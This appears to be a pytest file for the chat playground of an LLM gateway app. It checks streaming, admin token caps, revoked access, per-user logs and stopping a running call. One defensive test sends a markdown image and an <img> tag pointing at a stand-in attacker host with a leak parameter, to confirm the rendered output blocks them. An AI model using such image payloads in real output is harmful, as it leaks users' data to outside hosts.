"""The playground in AppTest: chatting streamed and not, refusals, untrusted output, downloads."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator

import pytest
from sqlalchemy import func, select, update

from mindroute import security
from mindroute.config import get_settings
from mindroute.db import transaction
from mindroute.models import Log, Provider, User, UserProvider
from tests.pages.helpers import add_user, app_for, sign_in, texts
from tests.providers.fakes import COMPLETION_TOKENS, OPENAI_KEY, PROMPT_TOKENS, FakeOpenAI, FakeServer, expected_answer
from tests.providers.holding import HoldingOpenAI

PAGE = "pages/workspace/playground.py"


@pytest.fixture(scope="module")
def openai_fake() -> Iterator[FakeServer]:
    server = FakeServer(FakeOpenAI()).start()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def holding_fake() -> Iterator[FakeServer]:
    server = FakeServer(HoldingOpenAI()).start()
    yield server
    server.stop()


def grant_provider(engine, email: str, server: FakeServer, models: list[str] | None = None, **grant) -> Provider:
    box = security.SecretBox(get_settings().secret_keys)
    with transaction(engine) as session:
        user = session.scalar(select(User).where(User.email == email))
        provider = Provider(
            name="Fake OpenAI",
            protocol="openai",
            endpoint_url=server.url + "/v1",
            api_key=box.encrypt(OPENAI_KEY),
            max_tokens=2000,
            settings={
                "models": models or ["test-model", "other-model"],
                "default_model": (models or ["test-model"])[0],
                "prices": {"test-model": {"input": 1.0, "output": 2.0}},
            },
        )
        session.add(provider)
        session.flush()
        session.add(UserProvider(user_id=user.id, provider_id=provider.id, allowed=True, **grant))
    return provider


def user_on_playground(engine, monkeypatch):
    add_user(engine, "admin@example.com", role="admin")
    add_user(engine, "user@example.com")
    at = sign_in(app_for(engine, monkeypatch).run(), "user@example.com")
    return at.switch_page(PAGE).run()


def send(at, text: str):
    at.chat_input(key="pg_input").set_value(text)
    return at.run()


def logs(engine) -> list[Log]:
    with transaction(engine) as session:
        return session.scalars(select(Log).order_by(Log.created_at)).all()


def test_without_any_provider_the_user_is_told_whom_to_ask(engine, monkeypatch) -> None:
    at = user_on_playground(engine, monkeypatch)
    assert "Ask an administrator to give you access" in texts(at)


def test_streamed_answer_is_shown_with_its_numbers_and_logged(engine, monkeypatch, openai_fake) -> None:
    add_user(engine, "admin@example.com", role="admin")
    add_user(engine, "user@example.com")
    grant_provider(engine, "user@example.com", openai_fake)
    at = sign_in(app_for(engine, monkeypatch).run(), "user@example.com").switch_page(PAGE).run()
    at = send(at, "hello there")
    assert not at.exception, at.exception
    assert expected_answer("hello there") in [m.value for m in at.markdown]
    captions = re.sub(r"\\(.)", r"\1", " ".join(c.value for c in at.caption))  # as the reader sees it
    assert f"{PROMPT_TOKENS} in · {COMPLETION_TOKENS} out" in captions and "first token" in captions
    assert "≈ $" in captions
    [row] = logs(engine)
    assert (row.status_code, row.model_id, row.prompt_tokens) == (200, "test-model", PROMPT_TOKENS)
    assert row.request_body["source"] == "playground" and row.request_body["stream"] is True

    at = send(at, "and again")  # the history goes along
    assert len(logs(engine)) == 2
    assert [m["role"] for m in logs(engine)[1].request_body["messages"]] == ["user", "assistant", "user"]


def test_non_streamed_answer_and_a_new_conversation(engine, monkeypatch, openai_fake) -> None:
    at = user_on_playground(engine, monkeypatch)
    grant_provider(engine, "user@example.com", openai_fake)
    at.run()
    at.toggle(key="pg_stream").set_value(False)
    at = send(at.run(), "no stream")
    assert expected_answer("no stream") in [m.value for m in at.markdown]
    assert logs(engine)[0].request_body["stream"] is False
    assert len(at.get("download_button")) == 2
    at.button(key="pg_new").click().run()
    assert expected_answer("no stream") not in [m.value for m in at.markdown]


def test_page_offers_only_what_the_policy_allows_and_caps_tokens(engine, monkeypatch, openai_fake) -> None:
    """Every run re-reads the policy: a lowered limit caps the call, a narrowed grant narrows the
    model list, and a revoked grant removes the provider. (The refusals themselves are the chat
    service's, tested in tests/providers/test_chat_service.py.)"""
    at = user_on_playground(engine, monkeypatch)
    grant_provider(engine, "user@example.com", openai_fake)
    at.run()
    assert at.number_input(key=next(n.key for n in at.number_input)).value == 1024
    with transaction(engine) as session:  # the admin lowers the limit while the page is open
        session.execute(update(Provider).values(max_tokens=100))
    at = send(at, "capped")
    assert "At most 100 tokens per call: provider limit." in texts(at) + " ".join(c.value for c in at.caption)
    assert logs(engine)[-1].request_body["max_tokens"] == 100 and logs(engine)[-1].status_code == 200

    with transaction(engine) as session:  # then narrows the user's models
        session.execute(update(UserProvider).values(settings={"models": ["other-model"]}))
    at.run()
    assert next(s for s in at.selectbox if s.label == "Model").options == ["other-model"]

    with transaction(engine) as session:  # and finally turns the user's access off
        session.execute(update(UserProvider).values(allowed=False))
    at.run()
    assert "You may not use any provider yet" in texts(at)
    assert len(logs(engine)) == 1


def test_model_output_cannot_fetch_images_or_inject_html(engine, monkeypatch, openai_fake) -> None:
    at = user_on_playground(engine, monkeypatch)
    grant_provider(engine, "user@example.com", openai_fake)
    at.run()
    at = send(at, "![tracker](https://evil.example/p.png?leak=1) <img src=https://evil.example/x.png>")
    rendered = "\n".join(m.value for m in at.markdown)
    assert "[image: tracker]" in rendered
    assert "](https://evil.example/p.png" not in rendered
    for element in at.markdown:
        assert element.proto.allow_html is False


def test_user_cannot_reach_another_users_calls_through_the_playground(engine, monkeypatch, openai_fake) -> None:
    at = user_on_playground(engine, monkeypatch)
    grant_provider(engine, "user@example.com", openai_fake)
    at.run()
    send(at, "mine")
    with transaction(engine) as session:
        owner = session.scalar(select(Log.user_id))
        me = session.scalar(select(User.id).where(User.email == "user@example.com"))
        assert owner == me
        assert session.scalar(select(func.count()).select_from(Log)) == 1


def wait_until(condition, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.01)
    return True


@pytest.mark.parametrize("stream", [True, False])
def test_an_interrupted_run_stops_the_call_at_once_and_keeps_the_question(
    engine, monkeypatch, holding_fake, stream
) -> None:
    """Stop (any click) stops the running script: AppTest's timeout does exactly that
    (`request_stop`), here while the provider has not sent a byte. The call ends at once, its 499
    row is written then, and the next run shows the question with the answer marked stopped."""
    at = user_on_playground(engine, monkeypatch)
    grant_provider(engine, "user@example.com", holding_fake, models=["hold"])
    holding_fake.fake.reset()
    at.run()
    at.toggle(key="pg_stream").set_value(stream)
    at.chat_input(key="pg_input").set_value("are you there?")
    with pytest.raises(RuntimeError, match="timed out"):
        at.run(timeout=1.0)
    stopped_at = time.monotonic()
    assert wait_until(lambda: len(logs(engine)) == 1, 1.0)  # the row, right away
    assert holding_fake.fake.last.disconnected.wait(1.0)  # and the upstream request closed
    assert time.monotonic() - stopped_at < 1.5
    [row] = logs(engine)
    assert (row.status_code, row.error_message, row.request_body["stream"]) == (499, "Stopped by the user", stream)

    at.chat_input(key="pg_input").set_value(None)  # a browser sends a message once; AppTest would resend it
    at = at.run()
    assert not at.exception, at.exception
    assert "are you there?" in [str(t.value) for t in at.text]  # the question stays
    captions = " ".join(c.value for c in at.caption)
    assert "stopped" in captions and "waiting" not in captions
    assert "Stopped by the user" not in texts(at)  # a stop is no error
    assert len(logs(engine)) == 1
    history = at.session_state["playground_history"]
    assert [(e["role"], e.get("stopped")) for e in history] == [("user", None), ("assistant", True)]
